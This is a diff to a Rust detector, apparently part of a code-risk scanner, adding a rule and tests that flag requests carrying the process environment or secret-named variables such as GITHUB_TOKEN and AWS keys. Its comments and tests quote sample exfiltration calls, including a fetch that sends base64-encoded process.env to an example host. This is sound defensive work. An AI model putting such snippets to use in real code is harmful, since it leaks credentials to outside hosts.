@@ -1,7 +1,8 @@
 //! What code sends off the machine, rated with what it read first: file contents or the
-//! environment written to a raw socket, and credential files (cloud keys, SSH private keys,
+//! environment written to a raw socket, credential files (cloud keys, SSH private keys,
 //! package-registry tokens) read and then sent in a request — the shape of an install hook
-//! that harvests `~/.aws/credentials` and posts it.
+//! that harvests `~/.aws/credentials` and posts it — and the environment, or a variable named
+//! for a secret, carried in a request.
 //!
 //! Within one snippet, by names: the code names a credential store in a string, reads a file,
 //! and makes a request that carries a payload to a host that is not this machine. The findings
@@ -113,4 +114,98 @@ pub(super) fn secret_file_send(a: &Analysis) -> Vec<Hit> {
         hits.push(h);
     }
     hits
+}
+
+/// The whole environment, or a variable named for a secret, carried in a request to another
+/// host (`fetch(url + Buffer.from(JSON.stringify(process.env)).toString("base64"))`,
+/// `requests.post(u, json=dict(os.environ))`, `urlopen(u + os.environ["GITHUB_TOKEN"])`).
+pub(super) fn environment_send(a: &Analysis) -> Vec<Hit> {
+    m::calls(a, |c| {
+        (m::is_network_write(c) || m::is_network_read(c))
+            && !is_loopback_call(c)
+            && carries_environment(&args_text(c))
+    })
+}
+
+/// Whether call arguments' text carries the environment (see [`environment_send`]).
+fn carries_environment(t: &str) -> bool {
+    ["process.env", "os.environ", "ENV", "%ENV"]
+        .iter()
+        .any(|name| whole_or_secret(t, name))
+        || ["os.getenv(", "getenv(", "Sys.getenv(", "System.getenv("]
+            .iter()
+            .any(|f| secret_argument(t, f))
+}
+
+/// An occurrence of `name` used whole (not `.NAME`, `[…]`, `.get(…)` after it), or with a
+/// member named for a secret (`process.env.AWS_SECRET_ACCESS_KEY`, `os.environ["TOKEN"]`).
+fn whole_or_secret(t: &str, name: &str) -> bool {
+    let mut rest = t;
+    while let Some(i) = rest.find(name) {
+        let before = rest[..i].chars().last();
+        let after = &rest[i + name.len()..];
+        rest = after;
+        if before.is_some_and(|c| c.is_alphanumeric() || c == '_' || c == '.') {
+            continue;
+        }
+        let member = after
+            .strip_prefix('.')
+            .filter(|m| !m.starts_with("get"))
+            .or_else(|| {
+                after
+                    .strip_prefix("[\"")
+                    .or_else(|| after.strip_prefix("['"))
+            })
+            .or_else(|| {
+                after
+                    .strip_prefix(".get(\"")
+                    .or_else(|| after.strip_prefix(".get('"))
+            });
+        match member {
+            Some(m) => {
+                let key: String = m
+                    .chars()
+                    .take_while(|c| c.is_alphanumeric() || *c == '_')
+                    .collect();
+                if riskgate_model::secrets::is_secret_name(&key) {
+                    return true;
+                }
+            }
+            None if after.starts_with(|c: char| c.is_alphanumeric() || c == '_' || c == '[') => {}
+            None => return true,
+        }
+    }
+    false
+}
+
+/// A call of `f` whose first argument names a secret (`os.getenv("AWS_SECRET_ACCESS_KEY")`).
+fn secret_argument(t: &str, f: &str) -> bool {
+    t.match_indices(f).any(|(i, _)| {
+        let arg = t[i + f.len()..].trim_start_matches(['"', '\'', ' ']);
+        let key: String = arg
+            .chars()
+            .take_while(|c| c.is_alphanumeric() || *c == '_')
+            .collect();
+        riskgate_model::secrets::is_secret_name(&key)
+    })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::carries_environment;
+
+    #[test]
+    fn the_environment_in_a_request() {
+        assert!(carries_environment(
+            "\"https://x.example.io/e?d=\" + Buffer.from(JSON.stringify(process.env)).toString(\"base64\")"
+        ));
+        assert!(carries_environment("u, json=dict(os.environ)"));
+        assert!(carries_environment("u + os.environ[\"GITHUB_TOKEN\"]"));
+        assert!(carries_environment("u + process.env.AWS_SECRET_ACCESS_KEY"));
+        assert!(carries_environment("u, data=os.getenv(\"NPM_TOKEN\")"));
+        // one setting that is no secret
+        assert!(!carries_environment("process.env.API_URL + \"/health\""));
+        assert!(!carries_environment("os.environ.get(\"PORT\", \"8000\")"));
+        assert!(!carries_environment("\"https://example.com/ENVIRONMENT\""));
+    }
 }
